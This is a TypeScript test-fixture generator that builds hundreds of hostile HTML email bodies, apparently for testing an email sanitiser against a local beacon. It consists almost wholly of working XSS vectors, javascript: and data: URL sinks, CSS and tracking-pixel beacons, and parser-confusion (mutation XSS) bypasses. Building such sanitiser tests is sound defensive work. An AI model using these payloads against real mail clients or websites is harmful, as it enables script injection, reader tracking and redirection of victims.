/**
 * HTML as attackers write it into mails: hundreds of ways to run a script, to load something (which tells the sender who reads, and when), to lead away, or to be
 * read in one way by a sanitiser and in another by a browser. Every one carries a number of its own, so that whoever hears of it knows which one got out.
 */

export type HostileMail = { name: string; html: string };

/** @param beacon where whatever gets out is heard: `http://127.0.0.1:4000` */
export function hostileMails(beacon: string): HostileMail[] {
  const mails: HostileMail[] = [];
  const add = (kind: string, make: (url: string, script: string) => string): void => {
    const name = `${kind} #${mails.length}`;
    const url = `${beacon}/${mails.length}`;
    mails.push({ name, html: make(url, scriptOf(url)) });
  };
  for (const [element, attributes] of ELEMENTS)
    for (const event of EVENTS)
      add(`${element} ${event}`, (_url, script) => `<${element} ${attributes} ${event}="${quoted(script)}">x`);
  for (const spelling of HANDLER_SPELLINGS) add('handler', (_url, script) => spelling(quoted(script)));
  for (const spelling of CODE_ADDRESSES)
    for (const sink of SINKS) add('code address', (_url, script) => sink(quoted(spelling(script))));
  for (const load of LOADS) add('load', (url) => load(url));
  for (const value of STYLE_VALUES) {
    add('style attribute', (url) => `<div style="${quoted(value(url))}">x</div>`);
    add('style element', (url) => `<style>body{${value(url)}}</style>x`);
    add('style in a query', (url) => `<style>@media screen{p,*{${value(url)}}}</style><p>x</p>`);
  }
  for (const sheet of SHEETS) add('sheet', (url, script) => sheet(url, script));
  for (const trick of TRICKS)
    add('trick', (url, script) => trick(`<img src=x onerror="${quoted(script)}">`, url, script));
  return mails;
}

/** Shows itself in every way it can: a dialog, a line in the console, a request, a page that goes elsewhere. */
function scriptOf(url: string): string {
  return `console.log('ran ${url}');new Image().src='${url}/ran';alert('ran ${url}');top.location='${url}/top'`;
}

function quoted(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
}

const ELEMENTS: [string, string][] = [
  ['img', 'src=x'],
  ['image', 'src=x'],
  ['svg', ''],
  ['body', ''],
  ['input', 'autofocus'],
  ['button', 'autofocus'],
  ['select', 'autofocus'],
  ['textarea', 'autofocus'],
  ['details', 'open'],
  ['dialog', 'open'],
  ['video', 'src=x autoplay'],
  ['audio', 'src=x autoplay'],
  ['iframe', 'src="about:blank"'],
  ['object', 'data="x"'],
  ['embed', 'src="x"'],
  ['link', 'rel=stylesheet href="x"'],
  ['style', ''],
  ['script', 'src="x"'],
  ['marquee', 'width=1 loop=1'],
  ['div', 'tabindex=0 autofocus style="animation:a 1ms;transition:all 1ms"'],
  ['a', 'tabindex=0 autofocus href="#"'],
  ['table', 'background=x'],
  ['frameset', ''],
  ['math', ''],
  ['p', 'contenteditable autofocus'],
  ['custom-element', 'tabindex=0 autofocus'],
];
const EVENTS = [
  'onload',
  'onerror',
  'onfocus',
  'onfocusin',
  'ontoggle',
  'onbegin',
  'onstart',
  'onfinish',
  'onanimationstart',
  'onanimationend',
  'onpageshow',
  'oncanplay',
  'onloadstart',
  'onpointerrawupdate',
];

const HANDLER_SPELLINGS: ((script: string) => string)[] = [
  (script) => `<IMG SRC=x ONERROR="${script}">`,
  (script) => `<img src=x onerror\n=\n"${script}">`,
  (script) => `<img/src=x/onerror="${script}">`,
  (script) => `<img src="x"onerror="${script}">`,
  (script) => `<img src=x onerror='${script.replaceAll("'", '&#39;')}'>`,
  (script) => `<img src=x onerror=${script.replaceAll(/[\s'"=<>`]/g, (sign) => `&#${sign.charCodeAt(0)};`)}>`,
  (script) => `<img src=x\fonerror="${script}">`,
  (script) => `<img src=x \u00a0 onerror="${script}">`,
  (script) => `<img src=\`x\` onerror="${script}">`,
  (script) => `<img """><img src=x onerror="${script}">">`,
  (script) => `<img alt="<img src=x onerror='${script.replaceAll("'", '&#39;')}'>" src=x onerror="${script}">`,
  (script) => `<<img src=x onerror="${script}">`,
  (script) => `<img\0 src=x onerror="${script}">`,
  (script) => `<img src=x on\0error="${script}">`,
  (script) => `<svg/onload="${script}"//`,
  (script) => `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  (script) => `<svg><set onbegin="${script}" attributeName=x to=y>`,
  (script) => `<svg><a><animate attributeName=href values="javascript:${script}" /><text x=20 y=20>x</text></a>`,
  (script) => `<x onclick="${script}" tabindex=1 id=x>x</x>`,
  (script) => `<img src=x onerror="${script}" / onload`,
  (script) => `<a href="x" style="x" onmouseover="${script}" onfocus="${script}" autofocus>x`,
];

const CODE_ADDRESSES: ((script: string) => string)[] = [
  (script) => `javascript:${script}`,
  (script) => `JaVaScRiPt:${script}`,
  (script) => `java\tscript:${script}`,
  (script) => `java\nscript:${script}`,
  (script) => `\u0001javascript:${script}`,
  (script) => ` \u00a0javascript:${script}`,
  (script) => `javascript\t:${script}`,
  (script) => `javascript://x%0a${script}`,
  (script) => `data:text/html,<script>${script}</script>`,
  (script) => `data:text/html;base64,${Buffer.from(`<script>${script}</script>`).toString('base64')}`,
  (script) =>
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${script.replaceAll('"', "'")}"></svg>`,
  (script) => `vbscript:${script}`,
  (script) => `view-source:javascript:${script}`,
];
const SINKS: ((address: string) => string)[] = [
  (address) => `<a href="${address}" target=_top>x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<img src="${address}">`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><input type=submit autofocus></form>`,
  (address) => `<button formaction="${address}" form=x>x</button>`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  (address) => `<base href="${address}"><a href="#">x</a>`,
  (address) => `<link rel="stylesheet" href="${address}">`,
  (address) => `<svg><use href="${address}#a"/><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<math href="${address}">x</math>`,
  (address) => `<body background="${address}">x`,
  (address) => `<div style="background:url('${address}')">x</div>`,
  (address) => `<iframe srcdoc="<a href='${address}'>x</a><iframe src='${address}'>"></iframe>`,
];

const LOADS: ((url: string) => string)[] = [
  (url) => `<img src="${url}">`,
  (url) => `<img src="${url.replace('http:', '')}">`,
  (url) => `<img src="\t${url}">`,
  (url) => `<img src="${url.replace('http:', 'HTTP:')}">`,
  (url) => `<img src="/api/probes?${encodeURIComponent(url)}">`,
  (url) => `<base href="${url}/"><img src="x.png">`,
  (url) => `<img srcset="${url} 1x">`,
  (url) => `<img src="data:image/png;base64,AAAA" srcset="${url} 2x, ${url}/b 100w">`,
  (url) => `<picture><source srcset="${url}"><img src="x"></picture>`,
  (url) => `<img lowsrc="${url}" dynsrc="${url}" longdesc="${url}">`,
  (url) => `<image src="${url}"></image>`,
  (url) => `<input type=image src="${url}">`,
  (url) => `<table background="${url}"><tr background="${url}"><td background="${url}">x</table>`,
  (url) => `<body background="${url}">x`,
  (url) => `<video src="${url}" poster="${url}/p" autoplay><track src="${url}/t" default></video>`,
  (url) => `<audio src="${url}" autoplay></audio><audio autoplay><source src="${url}/s"></audio>`,
  (url) => `<bgsound src="${url}">`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<frameset><frame src="${url}"></frameset>`,
  (url) => `<object data="${url}"><param name=src value="${url}"></object>`,
  (url) => `<embed src="${url}"><applet code="${url}" codebase="${url}"></applet>`,
  (url) => `<portal src="${url}"></portal><fencedframe></fencedframe>`,
  (url) => `<script src="${url}"></script>`,
  (url) => `<script type=module>import "${url}"</script>`,
  (url) => `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}"]}]}</script>`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<link rel=preload as=image href="${url}">`,
  (url) => `<link rel=prefetch href="${url}">`,
  (url) => `<link rel=prerender href="${url}">`,
  (url) => `<link rel=modulepreload href="${url}">`,
  (url) => `<link rel=icon href="${url}">`,
  (url) => `<link rel=manifest href="${url}">`,
  (url) => `<link rel=import href="${url}">`,
  (url) => `<html manifest="${url}">x`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<meta http-equiv="Refresh" content="0; URL='${url}'">`,
  (url) => `<meta http-equiv=Link content="<${url}>; rel=stylesheet">`,
  (url) => `<meta http-equiv=set-cookie content="x=${url}">`,
  (url) => `<svg><image href="${url}"/><image xlink:href="${url}/x"/></svg>`,
  (url) => `<svg><use href="${url}#x"/><feImage href="${url}"/><script href="${url}"/></svg>`,
  (url) =>
    `<svg><style>@import "${url}";</style><rect fill="url(${url}#x)" filter="url(${url}#f)" width=9 height=9 /></svg>`,
  (url) => `<svg><animate attributeName=href values="${url}"/><set attributeName=xlink:href to="${url}"/></svg>`,
  (url) => `<svg><foreignObject><img src="${url}"></foreignObject></svg>`,
  (url) => `<math><mglyph src="${url}"></mglyph><maction actiontype=statusline xlink:href="${url}">x</math>`,
  (url) => `<form action="${url}" id=f><input name=a value=b autofocus></form><input type=submit form=f>`,
  (url) => `<isindex action="${url}" type=image src="${url}">`,
  (url) => `<a href="${url}" ping="${url}/ping" autofocus target=_blank>x</a>`,
  (url) => `<div datasrc="${url}" style="behavior:url(${url})">x</div>`,
  (url) => `<?xml-stylesheet href="${url}" type="text/css"?><p>x`,
  (url) => `<!DOCTYPE x SYSTEM "${url}"><p>x`,
  (url) => `<iframe srcdoc="<img src='${url}'><link rel=stylesheet href='${url}/s'>"></iframe>`,
  (url) => `<template shadowrootmode=open><img src="${url}"></template>`,
  (url) => `<div><template shadowrootmode="open"><style>@import "${url}"</style></template></div>`,
  (url) => `<noscript><img src="${url}"></noscript>`,
  (url) => `<noembed><img src="${url}"></noembed><noframes><img src="${url}"></noframes>`,
  (url) => `<xmp><img src="${url}"></xmp><plaintext><img src="${url}">`,
];

const STYLE_VALUES: ((url: string) => string)[] = [
  (url) => `background:url(${url})`,
  (url) => `background:url("${url}")`,
  (url) => `background:url( '${url}' )`,
  (url) => `background:URL(${url})`,
  (url) => `background:u\\72l(${url})`,
  (url) => `background:\\75\\72\\6c(${url})`,
  (url) => `background:ur/**/l(${url}) , url/**/(${url}/2)`,
  (url) => `background:red url(${url}) no-repeat;color:red`,
  (url) => `background-image:image-set(url(${url}) 1x)`,
  (url) => `background-image:image-set("${url}" 1x)`,
  (url) => `background-image:-webkit-image-set(url(${url}) 1x)`,
  (url) => `background-image:src("${url}")`,
  (url) => `background-image:cross-fade(url(${url}),red)`,
  (url) => `background-image:linear-gradient(red,blue),url(${url})`,
  (url) => `list-style:url(${url});display:list-item`,
  (url) => `list-style-image:url(${url});display:list-item`,
  (url) => `content:url(${url})`,
  (url) => `cursor:url(${url}),auto`,
  (url) => `border-image:url(${url}) 30;border:1px solid`,
  (url) => `border-image-source:url(${url});border:1px solid`,
  (url) => `mask:url(${url});-webkit-mask-image:url(${url})`,
  (url) => `filter:url(${url}#f);clip-path:url(${url}#c);shape-outside:url(${url})`,
  (url) => `--x:url(${url});background:var(--x)`,
  (url) => `background:attr(data-x type(<url>),url(${url}))`,
  (url) => `font-family:x;src:url(${url})`,
  (url) => `offset-path:url(${url}#p);fill:url(${url}#f);marker:url(${url}#m)`,
  (url) => `width:expression(new Image().src='${url}')`,
  (url) => `behavior:url(${url});-moz-binding:url(${url}#x)`,
  (url) => `color:red}*{background:url(${url})`,
  (url) => `color:red;}@import "${url}";x{`,
  (url) => `font-family:"x;background:url(${url})`,
  (url) => `font-family:'\\';background:url(${url})`,
  (url) => `background:url(${url}`,
  (url) => `background:url(data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url}'/></svg>)`,
  (url) => `color:red;/* */background:url(${url});/*`,
  (url) => `background:url(${url})!important`,
];

const SHEETS: ((url: string, script: string) => string)[] = [
  (url) => `<style>@import "${url}";</style>`,
  (url) => `<style>@import url(${url});</style>`,
  (url) => `<style>@\\69mport "${url}";</style>`,
  (url) => `<style>@IMPORT/**/"${url}" layer(x);</style>`,
  (url) => `<style>;@charset "x";@import "${url}"</style>`,
  (url) => `<style>@font-face{font-family:x;src:url(${url})}body{font-family:x}</style>x`,
  (url) => `<style>@media screen{@font-face{font-family:x;src:url(${url})}*{font-family:x}}</style>x`,
  (url) => `<style>@namespace x "${url}";@counter-style c{system:cyclic;symbols:url(${url})}</style>`,
  (url) => `<style>@supports (color:red){body{background:url(${url})}}</style>x`,
  (url) => `<style>@layer x{body{background:url(${url})}}@container (width>0){*{background:url(${url})}}</style>x`,
  (url) => `<style>@keyframes a{from{background:url(${url})}to{background:url(${url})}}*{animation:a 1s}</style>x`,
  (url) => `<style>body{&>*{background:url(${url})}}</style><p>x`,
  (url) => `<style>p[title="}*{background:url(${url})}"]{}</style><p title=x>x`,
  (url) => `<style>p{color:red</style><style>}*{background:url(${url})}</style><p>x`,
  (url) => `<style><!-- *{background:url(${url})} --></style><p>x`,
  (_url, script) => `<style></style/><img src=x onerror="${quoted(script)}"></style>`,
  (_url, script) => `<style>x{content:"</style><img src=x onerror='${script.replaceAll("'", '&#39;')}'>"}</style>`,
  (_url, script) => `<style>&lt;/style&gt;<script>${script}</script></style>`,
  (_url, script) => `<style media="x"><\u0000/style><img src=x onerror="${quoted(script)}"></style>`,
  (url) => `<div style="x:y" class="</style><style>*{background:url(${url})}</style>">x`,
  (url) => `<title><style></title><style>*{background:url(${url})}</style>x`,
  (url) => `<svg><style>*{background:url(${url})}</style></svg><p>x`,
  (url) => `<math><style>*{background:url(${url})}</style></math><p>x`,
  (url) => `<select><style>*{background:url(${url})}</style></select><p>x`,
];

/** Where a sanitiser and a browser may not agree what is text and what is markup. */
const TRICKS: ((evil: string, url: string, script: string) => string)[] = [
  (_evil, _url, script) => `<script>${script}</script>`,
  (_evil, _url, script) => `<SCRIPT\n>${script}</SCRIPT >`,
  (_evil, _url, script) => `<scr<script>ipt>${script}</scr</script>ipt>`,
  (_evil, _url, script) => `<script/x>${script}</script>`,
  (_evil, _url, script) => `<svg><script>${script}</script></svg>`,
  (_evil, _url, script) => `<svg><script>${quoted(script)}</script></svg>`,
  (_evil, _url, script) => `<math><script>${script}</script></math>`,
  (_evil, _url, script) => `<![CDATA[<script>${script}</script>]]>`,
  (_evil, _url, script) => `<iframe srcdoc="${quoted(`<script>${script}</script>`)}"></iframe>`,
  (_evil, _url, script) =>
    `<template><script>${script}</script></template><div><template shadowrootmode=open><script>${script}</script>`,
  (evil) => `<!--><!-->${evil}-->`,
  (evil) => `<!--->${evil}-->`,
  (evil) => `<!-- --!>${evil}-->`,
  (evil) => `<!${evil}>`,
  (evil) => `<?${evil}?>`,
  (evil) => `</${evil}>`,
  (evil) => `<noscript><p title="</noscript>${evil}">`,
  (evil) => `<noembed><p title="</noembed>${evil}">`,
  (evil) => `<noframes><p title="</noframes>${evil}">`,
  (evil) => `<xmp><p title="</xmp>${evil}">`,
  (evil) => `<textarea><p title="</textarea>${evil}">`,
  (evil) => `<title><p title="</title>${evil}">`,
  (evil) => `<iframe><p title="</iframe>${evil}">`,
  (evil) => `<style><p title="</style>${evil}">`,
  (evil) => `<plaintext></plaintext>${evil}`,
  (evil) => `<listing>&lt;img src=x&gt;${evil}</listing>`,
  (evil) => `<svg><p><style><g title="</style>${evil}">`,
  (evil) => `<svg></p><style><a id="</style>${evil}">`,
  (evil) => `<math><mtext><table><mglyph><style><!--</style>${evil}--></style></mglyph></table></mtext></math>`,
  (evil) => `<form><math><mtext></form><form><mglyph><style></math>${evil}`,
  (evil) => `<math><mtext><img alt="</mtext></math>${evil}"></mtext></math>`,
  (evil) => `<svg><foreignobject><math><mi><p><style></p></mi></math>${evil}</style>`,
  (evil) => `<svg><desc><title><style>${evil}</style></title></desc></svg>`,
  (evil) => `<svg><textarea>${evil}</textarea></svg>`,
  (evil) => `<svg><xmp>${evil}</xmp></svg>`,
  (evil) => `<select><option><style>${evil}</style></option></select>`,
  (evil) => `<select><iframe>${evil}</iframe></select>`,
  (evil) => `<table><td><table>${evil}</table></td></table><table><select>${evil}`,
  (evil) => `<a href="x${'"'}>${evil}`,
  (evil) => `<p title='"'>${evil}<p title='"'>`,
  (evil) => `<p id='"><'>${evil}`,
  (evil) => `<p x="&quot;>${evil}">`,
  (evil) => `<div ${'x '.repeat(500)}>${evil}`,
  (evil) => `${'<div>'.repeat(600)}${evil}`,
  (evil) => `${'<b><i><a>'.repeat(300)}${evil}`,
  (evil) => `&lt;script&gt;${evil}&amp;lt;`,
  (evil) => `+ADw-script+AD4-${evil}+ADw-/script+AD4-`,
  (evil) => `<html><head></head><body></body></html>${evil}<body onload="x">`,
  (evil) => `<head><base href="javascript:/a/">${evil}</head>`,
  (evil) => `\ufeff<p>${evil}`,
  (evil) => `<p\u2028>${evil}<\u200bscript>`,
  (evil) => `<object><param name="x" value="y">${evil}</object>`,
  (evil) => `<video>${evil}</video><audio>${evil}</audio><canvas>${evil}</canvas>`,
  (evil) => `<details open ontoggle>${evil}<summary>${evil}</summary></details>`,
  (evil) => `<marquee>${evil}</marquee><blink>${evil}</blink><layer>${evil}</layer>`,
];
